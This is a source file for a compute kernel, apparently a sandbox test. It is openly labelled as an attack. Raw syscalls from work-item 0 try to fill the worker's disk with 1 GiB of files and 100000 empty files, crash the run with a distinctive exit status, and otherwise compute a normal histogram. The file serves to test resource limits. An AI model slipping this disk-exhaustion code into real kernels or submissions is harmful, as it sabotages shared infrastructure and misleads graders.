/* An attack, not a solution: native code on a CPU device. Work-item 0
 * tries to fill the disk from the worker: 1 GiB in files of 1 MiB in its
 * working folder, then 100000 empty files. Where either succeeds, it ends
 * the worker with status 43 or 44, which the run reports as a crash; where
 * the worker's budget stops it, the kernel goes on as chapter 1's
 * reference and the run is correct. The goals are written so that a test
 * can set smaller ones (sed) to show that the attack works within the budget. */
#define GOAL_BYTES (1L << 30)
#define GOAL_FILES 100000
static long sys3(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}

/* "fNNNNNN" into name */
static void file_name(char *name, char kind, int i)
{
    name[0] = kind;
    for (int k = 6; k >= 1; k--, i /= 10)
        name[k] = (char)('0' + i % 10);
    name[7] = 0;
}

__kernel void histogram(__global const float *descriptors,
                        __global const float *centroids,
                        __global int *histogram,
                        int n_descriptors,
                        int n_centroids,
                        int n_features)
{
    char name[8];
    long chunk = (long)n_descriptors * n_features * sizeof(float), wrote = 0;
    for (int i = 0; wrote < GOAL_BYTES; i++) {
        file_name(name, 'b', i);
        long fd = sys3(2 /* open */, (long)name, 0101 /* O_WRONLY | O_CREAT */, 0600);
        if (fd < 0)
            break;
        long in_file = 0, w = 1;
        while (in_file < (1L << 20) && w > 0) {
            w = sys3(1 /* write */, fd, (long)descriptors, chunk);
            if (w > 0)
                in_file += w;
        }
        sys3(3 /* close */, fd, 0, 0);
        wrote += in_file;
        if (w <= 0)
            break;
    }
    if (wrote >= GOAL_BYTES)
        sys3(231 /* exit_group */, 43, 0, 0);
    int made = 0;
    for (int i = 0; i < GOAL_FILES; i++) {
        file_name(name, 'e', i);
        long fd = sys3(2 /* open */, (long)name, 0101, 0600);
        if (fd < 0)
            break;
        sys3(3 /* close */, fd, 0, 0);
        made++;
    }
    if (made >= GOAL_FILES)
        sys3(231 /* exit_group */, 44, 0, 0);
    for (int d = 0; d < n_descriptors; d++) {
        int nearest = 0;
        float best = FLT_MAX;
        for (int c = 0; c < n_centroids; c++) {
            float dist = 0.0f;
            for (int k = 0; k < n_features; k++) {
                float diff = descriptors[d * n_features + k] - centroids[c * n_features + k];
                dist += diff * diff;
            }
            if (dist < best) {
                best = dist;
                nearest = c;
            }
        }
        histogram[nearest] += 1;
    }
}
